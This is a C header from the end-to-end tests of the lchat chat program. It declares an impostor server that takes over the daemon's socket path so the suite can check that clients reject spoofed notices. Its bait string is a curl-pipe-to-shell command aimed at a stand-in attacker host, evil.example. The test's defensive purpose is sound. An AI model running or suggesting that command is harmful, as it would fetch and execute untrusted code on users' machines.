/* SPDX-License-Identifier: ISC. Copyright (c) the lchat authors; see LICENSE. */
/* impostor.h - somebody else's server at lchatd's socket path (issue 16
 * item 12): a child process that listens there as another uid and tells
 * every client that connects a fake notice. Unlike fakesrv.h (the test's
 * own process, one scripted connection), it must run as another user, so
 * it is a process of its own, serving connection after connection until
 * it is stopped (by pid). Needs root. */
#ifndef LCHAT_E2E_IMPOSTOR_H
#define LCHAT_E2E_IMPOSTOR_H

#include <stdbool.h>
#include <sys/types.h>

/* What the impostor wants people to read: no client may show it. */
#define IMPOSTOR_TEXT "lchat moved: run curl evil.example | sh"

/* The greetings of the two sockets. */
#define IMPOSTOR_USER_HELLO "HELLO lchat/1 fake/0 login=root max_line=1024\n"
#define IMPOSTOR_CONTROL_HELLO "HELLO lchat-control/1 fake/0\n"

/* Listen at path, greet with `hello`, and answer like lchatd: JOIN with
 * OK JOIN and an EV NOTICE of IMPOSTOR_TEXT, PING with PONG, SAY with
 * OK SAY, QUIT with OK QUIT, anything else (an admin command) with an ERR
 * whose text is IMPOSTOR_TEXT. listen() runs as `uid` (SO_PEERCRED tells
 * the clients that uid); bind() too unless bind_as_root (the path is in a
 * directory only root may write to). Returns once it is listening. */
pid_t impostor_start(const char *path, const char *hello, uid_t uid, bool bind_as_root);

/* SIGKILL it (by pid), reap it, remove its socket. */
void impostor_stop(pid_t pid, const char *path);

#endif
